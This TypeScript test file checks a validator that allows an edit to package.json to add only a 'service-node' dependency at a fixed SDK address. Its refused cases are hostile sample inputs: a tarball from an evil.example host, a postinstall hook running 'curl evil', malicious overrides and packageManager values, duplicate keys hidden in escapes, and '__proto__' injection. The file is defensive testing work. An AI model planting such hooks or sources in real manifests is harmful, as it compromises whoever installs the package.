/** package.json gains service-node at the service's own address; nothing else of it changes. */
import t from 'tap'
import { changeProblem, editProblem } from '../../../shared/integration/edit-rules.ts'

const SDK = 'https://id.example.com/api/v1/sdk/node'
const BEFORE = {
  name: 'shop',
  scripts: { start: 'node app.js' },
  dependencies: { express: '^5.0.0' },
  exports: { '.': { import: './a.js', default: './b.js' } },
}
const WITH = { ...BEFORE, dependencies: { ...BEFORE.dependencies, 'service-node': SDK } }

const text = (value: unknown) => `${JSON.stringify(value, undefined, 2)}\n`

function problem(after: string, before: string | null = text(BEFORE), sdkUrl: string | null = SDK) {
  return changeProblem({ path: 'package.json', before, after }, { sdkUrl })
}

void t.test('service-node at the address of the service is all that may come', async (t) => {
  t.equal(problem(text(WITH)), null)
  t.equal(
    problem(text({ name: 'a', dependencies: { 'service-node': SDK } }), text({ name: 'a' })),
    null,
  )
  const old = { ...BEFORE, dependencies: { ...BEFORE.dependencies, 'service-node': '1.0.0' } }
  t.equal(problem(text(WITH), text(old)), null, 'also in place of another address')
  t.equal(problem(JSON.stringify(WITH)), null, 'spaces do not count')
})

const dependencies = (more: object) => ({
  ...BEFORE,
  dependencies: { ...BEFORE.dependencies, ...more },
})

const REFUSED: Readonly<Record<string, readonly [after: string, says: RegExp]>> = {
  'another address': [
    text(dependencies({ 'service-node': 'https://evil.example/x.tgz' })),
    /only gain service-node from/,
  ],
  'an address that begins like it': [
    text(dependencies({ 'service-node': `${SDK}/../evil` })),
    /only gain/,
  ],
  'a range of a registry': [text(dependencies({ 'service-node': '*' })), /only gain/],
  'an address that is no text': [text(dependencies({ 'service-node': [SDK] })), /only gain/],
  'another dependency': [
    text(dependencies({ 'service-node': SDK, evil: '1' })),
    /change "dependencies"/,
  ],
  'another version of one': [
    text(dependencies({ 'service-node': SDK, express: '4' })),
    /change "dependencies"/,
  ],
  'one less': [text({ ...BEFORE, dependencies: { 'service-node': SDK } }), /change "dependencies"/],
  'service-node in devDependencies': [
    text({ ...WITH, devDependencies: { 'service-node': SDK } }),
    /change "devDependencies"/,
  ],
  'a lifecycle script': [
    text({ ...WITH, scripts: { ...BEFORE.scripts, postinstall: 'curl evil' } }),
    /change "scripts"/,
  ],
  'another start': [text({ ...WITH, scripts: { start: 'node evil.js' } }), /change "scripts"/],
  'no scripts any more': [text({ ...WITH, scripts: undefined }), /change "scripts"/],
  'git hooks': [
    text({ ...WITH, 'simple-git-hooks': { 'pre-commit': 'x' } }),
    /change "simple-git-hooks"/,
  ],
  overrides: [text({ ...WITH, overrides: { express: 'npm:evil' } }), /change "overrides"/],
  'a package manager': [
    text({ ...WITH, packageManager: 'yarn@https://evil.example' }),
    /change "packageManager"/,
  ],
  'conditions in another order': [
    text({ ...WITH, exports: { '.': { default: './b.js', import: './a.js' } } }),
    /change "exports"/,
  ],
  'scripts told twice': [
    text(WITH).replace('"name"', '"scripts": { "start": "evil" },\n  "name"'),
    /"scripts" twice/,
  ],
  'scripts told twice, once in escapes': [
    text(WITH).replace('"name"', '"scr\\u0069pts": {},\n  "name"'),
    /"scripts" twice/,
  ],
  'service-node told twice': [
    text(WITH).replace('"express"', '"service-node": "evil", "express"'),
    /"service-node" twice/,
  ],
  'a prototype': [
    text(WITH).replace('"name"', '"__proto__": { "scripts": {} },\n  "name"'),
    /"__proto__"/,
  ],
  'a prototype of dependencies': [
    text(WITH).replace('"express"', '"__proto__": { "evil": "1" }, "express"'),
    /"__proto__"/,
  ],
  'dependencies that are a list': [text({ ...WITH, dependencies: [SDK] }), /not an object/],
  'a list': ['[]', /not an object/],
  'no JSON': [text(WITH).slice(0, -3), /not valid JSON/],
  comments: [`// ${SDK}\n${text(WITH)}`, /not valid JSON/],
  'nothing that was to come': [text({ ...BEFORE }), /only gain/],
}

for (const [what, [after, says]] of Object.entries(REFUSED))
  void t.test(`refused: ${what}`, async (t) => {
    t.match(problem(after), says)
  })

void t.test('it is not created, and not changed where the address is not known', async (t) => {
  t.match(problem(text(WITH), null), /may not be created/)
  const content = text({ name: 'a' })
  t.match(editProblem({ path: 'apps/Package.JSON', action: 'create', content, why: '' }), /created/)
  t.match(problem(text(WITH), text(BEFORE), null), /address .* is not known/)
})

void t.test('one that is broken already is left alone', async (t) => {
  t.match(problem(text(WITH), '{'), /cannot be judged as it is now: it is not valid JSON/)
  t.match(
    problem(text(WITH), '{"a":1,"a":2}'),
    /cannot be judged as it is now: it has the key "a" twice/,
  )
})

void t.test('the same holds in every folder and in every spelling', async (t) => {
  for (const path of ['apps/web/package.json', 'Package.json', 'PACKAGE.JSON']) {
    const change = { path, before: text(BEFORE), after: text({ ...WITH, scripts: {} }) }
    t.match(changeProblem(change, { sdkUrl: SDK }), /change "scripts"/, path)
  }
})

void t.test(
  'a key that is told twice is found however deep, and a text that looks like one is not',
  async (t) => {
    const nested = { name: 'a', x: [{ a: '"a":', b: { a: '{"a":1,"a":2}' } }, { a: 1 }] }
    const after = { ...nested, dependencies: { 'service-node': SDK } }
    t.equal(problem(text(after), text(nested)), null)
    const twice = text(after).replace('"b":', '"a": 3, "b":')
    t.match(problem(twice, text(nested)), /"a" twice/)
  },
)
